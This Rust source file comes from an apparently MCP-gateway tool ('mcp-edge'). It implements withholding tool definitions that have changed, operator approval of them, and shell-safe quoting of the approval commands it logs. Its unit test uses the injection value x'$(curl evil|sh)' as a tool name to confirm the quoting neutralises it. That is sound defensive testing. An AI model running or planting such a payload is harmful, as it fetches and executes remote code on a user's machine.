//! The upstream's side of the tool pins ([`crate::pins`]) and its catalog
//! slot: every catalog the owner installs ([`Steward::set_catalog`]) is
//! reviewed against the pins, and an operator's approval
//! ([`Upstream::approve`]) puts withheld tools back into service. Both
//! replace the catalog whole under its lock, so an approval and a refresh
//! never undo each other; the pins file is written after the lock is
//! released. These are the only writes of the slot (its lock is private
//! to this file).

use super::{Catalog, Steward, Upstream};
use crate::logline::printable;
use crate::pins::{self, Flush, Withheld};
use std::collections::HashSet;
use std::sync::{Arc, RwLock, RwLockWriteGuard};

/// What an upstream lists now, replaced whole under its lock by the owner
/// ([`Steward::set_catalog`], [`Steward::clear_catalog`]) or an approval
/// ([`Upstream::approve`]); read by everyone ([`Upstream::catalog`]).
#[derive(Default)]
pub(super) struct CatalogSlot(RwLock<Arc<Catalog>>);

impl CatalogSlot {
    /// The catalog now.
    pub(super) fn get(&self) -> Arc<Catalog> {
        self.0.read().expect("catalog lock").clone()
    }

    fn write(&self) -> RwLockWriteGuard<'_, Arc<Catalog>> {
        self.0.write().expect("catalog lock")
    }
}

/// Why an approval ([`Upstream::approve`]) did not (wholly) happen.
#[derive(Debug, thiserror::Error)]
pub enum ApproveError {
    /// The named tool is not withheld (unknown, or served already); or,
    /// with no tool named, the upstream is not connected.
    #[error(
        "upstream {upstream:?} withholds {} ({})",
        asked(tool),
        why_not(withheld, state)
    )]
    NotWithheld {
        /// The upstream.
        upstream: String,
        /// The tool asked for (`None`: every withheld one).
        tool: Option<String>,
        /// What it does withhold.
        withheld: Vec<String>,
        /// Its state, when not ready (nothing is listed then).
        state: Option<String>,
    },
    /// The tool lists another definition than the operator reviewed
    /// (`expect`): nothing was approved.
    #[error("upstream {upstream:?} lists tool {tool:?} now with digest {}, not the {expected} expected; nothing approved (review it again: mcp-edge tools show)", now.hex())]
    Stale {
        /// The upstream.
        upstream: String,
        /// The tool.
        tool: String,
        /// What the operator expected (a digest or a prefix of one).
        expected: String,
        /// The digest listed now.
        now: pins::Digest,
    },
    /// Approved for this run, but the pins file could not be written: a
    /// restart would withhold the tools again.
    #[error("approved {} of upstream {upstream:?} for this run, but the pins were not saved (a restart withholds them again): {source}", names(approved))]
    NotSaved {
        /// The upstream.
        upstream: String,
        /// What was approved.
        approved: Vec<Withheld>,
        /// Why the file was not written.
        source: pins::PinsError,
    },
}

fn names(w: &[Withheld]) -> String {
    let n: Vec<String> = w.iter().map(|w| format!("{:?}", w.tool)).collect();
    n.join(", ")
}

fn asked(tool: &Option<String>) -> String {
    match tool {
        Some(t) => format!("no tool named {t:?}"),
        None => "nothing".to_owned(),
    }
}

fn why_not(withheld: &[String], state: &Option<String>) -> String {
    match (state, withheld.is_empty()) {
        (Some(s), _) => {
            format!("it is not connected ({s}); what it lists is reviewed when it connects")
        }
        (None, true) => "it withholds nothing now".to_owned(),
        (None, false) => format!("withheld now: {}", withheld.join(", ")),
    }
}

impl Steward {
    /// Installs a freshly listed catalog, its tools reviewed against the
    /// pins: under `trust = "pin"` the changed and new ones are withheld;
    /// under `"auto"` changes are logged and pinned. Clients are told of
    /// the kinds that changed (withheld tools included).
    pub(crate) async fn set_catalog(&self, mut c: Catalog) {
        let up = &**self.upstream();
        if let Some((conn, _, _)) = up.owned.current() {
            conn.set_param_headers(&c.tools);
        }
        // Hashed before the lock: the catalog can be a megabyte.
        let listed = pins::digest::listed(&c.tools);
        let (name, trust, capacity) = (up.name(), up.config.trust, up.config.max_catalog_entries);
        {
            let mut cur = up.catalog.write();
            c.withheld = up
                .pins
                .review(name, trust, capacity, &listed, !c.incomplete);
            log_newly_withheld(&up.pins, name, &cur.withheld, &c.withheld);
            up.publish(&mut cur, c);
        }
        if let Err(e) = up.pins.flush(Flush::Coalesced).await {
            if let Some(skipped) = up.pins.log_allowed(name) {
                tracing::warn!(upstream = %name, skipped, "tool pins not saved: {e}");
            }
        }
    }

    /// Empties the catalog (the connection ended: nothing is listed, nothing withheld).
    pub(crate) fn clear_catalog(&self) {
        let up = self.upstream();
        let mut cur = up.catalog.write();
        up.publish(&mut cur, Catalog::default());
    }
}

impl Upstream {
    /// Replaces `cur` with `c`, publishes `mcp_edge_tools_withheld` and
    /// moves on the list generations of the kinds that changed (a refresh
    /// that found the same lists announces nothing).
    fn publish(&self, cur: &mut Arc<Catalog>, c: Catalog) {
        let changed = cur.differs(&c);
        metrics::gauge!(crate::metrics::TOOLS_WITHHELD, "upstream" => self.config.name.clone())
            .set(c.withheld.len() as f64);
        *cur = Arc::new(c);
        if changed.contains(&true) {
            self.catalog_gen.send_modify(|g| g.bump(changed));
        }
    }

    /// The tools withheld now, and why.
    pub fn withheld(&self) -> Vec<Withheld> {
        self.catalog().withheld.clone()
    }

    /// The digest pinned for tool `tool` of this upstream, if any.
    pub fn pin_of(&self, tool: &str) -> Option<pins::Digest> {
        self.pins.pin_of(self.name(), tool)
    }

    /// How many tool definitions are pinned for this upstream.
    pub fn pinned(&self) -> usize {
        self.pins.pinned(self.name())
    }

    /// An operator approves withheld tool `tool` (`None`: every withheld
    /// tool). A caller's write, the handle's only one of the catalog: the
    /// definition listed now is pinned, the pins file written,
    /// and the tool served from the next request on (clients get
    /// `notifications/tools/list_changed`). Returns what was approved
    /// (empty when nothing was withheld and no tool was named). `expect`
    /// (lower-case hex, a digest or a prefix of one): approve only if the
    /// tool lists that definition now, checked under the catalog lock, so a
    /// definition changed after the operator looked is not approved.
    ///
    /// # Errors
    /// [`ApproveError::NotWithheld`] for a tool it does not withhold, or
    /// when it is not connected (nothing is listed, so nothing reviewed);
    /// [`ApproveError::Stale`] when `expect` does not match;
    /// [`ApproveError::NotSaved`] when the approval holds but the file
    /// could not be written.
    pub async fn approve(
        &self,
        tool: Option<&str>,
        expect: Option<&str>,
    ) -> Result<Vec<Withheld>, ApproveError> {
        let name = self.name();
        let chosen = {
            let mut cur = self.catalog.write();
            let chosen = self.choose(&cur, tool, expect)?;
            if chosen.is_empty() {
                return Ok(chosen); // connected, and nothing is withheld
            }
            {
                let listed: HashSet<&str> = (cur.tools.iter())
                    .filter_map(|t| t.get("name")?.as_str())
                    .collect();
                let pinned: Vec<_> = chosen.iter().map(|w| (w.tool.clone(), w.now)).collect();
                let capacity = self.config.max_catalog_entries;
                self.pins.approve(name, &pinned, capacity, &listed);
            }
            let mut next = Catalog::clone(&cur);
            next.withheld
                .retain(|w| !chosen.iter().any(|c| c.tool == w.tool));
            self.publish(&mut cur, next);
            chosen
        };
        for w in &chosen {
            tracing::info!(upstream = %name, tool = %printable(&w.tool), "tool approved by an operator and served: {}", w.detail());
        }
        match self.pins.flush(Flush::Now).await {
            Ok(()) => Ok(chosen),
            Err(source) => Err(ApproveError::NotSaved {
                upstream: name.to_owned(),
                approved: chosen,
                source,
            }),
        }
    }
}

impl Upstream {
    /// What [`Upstream::approve`] approves in `cur`: the withheld tool
    /// `tool` (every one when `None`), checked against `expect`.
    fn choose(
        &self,
        cur: &Catalog,
        tool: Option<&str>,
        expect: Option<&str>,
    ) -> Result<Vec<Withheld>, ApproveError> {
        let name = self.name();
        let chosen: Vec<Withheld> = (cur.withheld.iter())
            .filter(|w| tool.is_none_or(|t| w.tool == t))
            .cloned()
            .collect();
        let status = self.status();
        if chosen.is_empty() && (tool.is_some() || !status.is_ready()) {
            return Err(ApproveError::NotWithheld {
                upstream: name.to_owned(),
                tool: tool.map(str::to_owned),
                withheld: cur.withheld.iter().map(|w| w.tool.clone()).collect(),
                state: (!status.is_ready()).then(|| status.describe(tokio::time::Instant::now())),
            });
        }
        if let (Some(e), [w]) = (expect, chosen.as_slice()) {
            if !w.now.hex().starts_with(e) {
                return Err(ApproveError::Stale {
                    upstream: name.to_owned(),
                    tool: w.tool.clone(),
                    expected: e.to_owned(),
                    now: w.now,
                });
            }
        }
        Ok(chosen)
    }
}

/// A warning for each tool withheld now that was not withheld (as it is)
/// before, with the command that approves it; within the upstream's log
/// budget ([`pins::Pins::log_allowed`]).
fn log_newly_withheld(pins: &pins::Pins, upstream: &str, before: &[Withheld], now: &[Withheld]) {
    let seen: HashSet<(&str, pins::Digest)> =
        before.iter().map(|w| (w.tool.as_str(), w.now)).collect();
    for w in now
        .iter()
        .filter(|w| !seen.contains(&(w.tool.as_str(), w.now)))
    {
        let Some(skipped) = pins.log_allowed(upstream) else {
            continue;
        };
        let how = match approve_command(upstream, &w.tool, w.now) {
            Some(cmd) => format!("review it (mcp-edge tools show) and approve it: {cmd}"),
            None => "its name cannot be typed safely in a shell: review and approve it through POST /tools/approve".to_owned(),
        };
        tracing::warn!(upstream, tool = %printable(&w.tool), reason = w.reason_name(), skipped,
            "tool withheld (trust = \"pin\"): {}; {how}", w.detail());
    }
}

/// `word` quoted for a POSIX shell: as it is when made of
/// `[A-Za-z0-9_.-]` only (and not starting with `-`), else in single
/// quotes (`'` as `'\''`); `None` when empty or holding a control
/// character (a command line in a log could not show it as it is).
fn shell_word(word: &str) -> Option<String> {
    if word.is_empty() || word.chars().any(char::is_control) {
        return None;
    }
    let plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '_' | '.' | '-');
    if word.chars().all(plain) && !word.starts_with('-') {
        return Some(word.to_owned());
    }
    Some(format!("'{}'", word.replace('\'', r"'\''")))
}

/// The command line that approves `upstream`'s tool `tool` listed with
/// digest `now`, safe to paste into a shell; `None` when a name cannot be
/// written safely.
fn approve_command(upstream: &str, tool: &str, now: pins::Digest) -> Option<String> {
    let (upstream, tool) = (shell_word(upstream)?, shell_word(tool)?);
    Some(format!(
        "mcp-edge tools approve --expect {} {upstream} -- {tool}",
        now.short()
    ))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn approve_commands_are_safe_to_paste() {
        let d = pins::digest::of(&serde_json::json!({"name": "t"}));
        let cmd = |tool: &str| approve_command("files", tool, d);
        assert_eq!(
            cmd("read_file-2.v1"),
            Some(format!(
                "mcp-edge tools approve --expect {} files -- read_file-2.v1",
                d.short()
            ))
        );
        let evil = cmd("x'$(curl evil|sh)'").unwrap();
        assert!(
            evil.ends_with(r#" -- 'x'\''$(curl evil|sh)'\'''"#),
            "{evil}"
        );
        // What a shell makes of it: the name, as one word.
        let word = shell_word("x'$(curl evil|sh)'").unwrap();
        let out = std::process::Command::new("sh")
            .args(["-c", &format!("printf %s {word}")])
            .output()
            .unwrap();
        assert_eq!(String::from_utf8_lossy(&out.stdout), "x'$(curl evil|sh)'");
        assert_eq!(shell_word("a b;c").as_deref(), Some("'a b;c'"));
        assert_eq!(shell_word("-rf").as_deref(), Some("'-rf'"));
        assert_eq!(cmd("x\ny"), None);
        assert_eq!(cmd(""), None);
    }
}
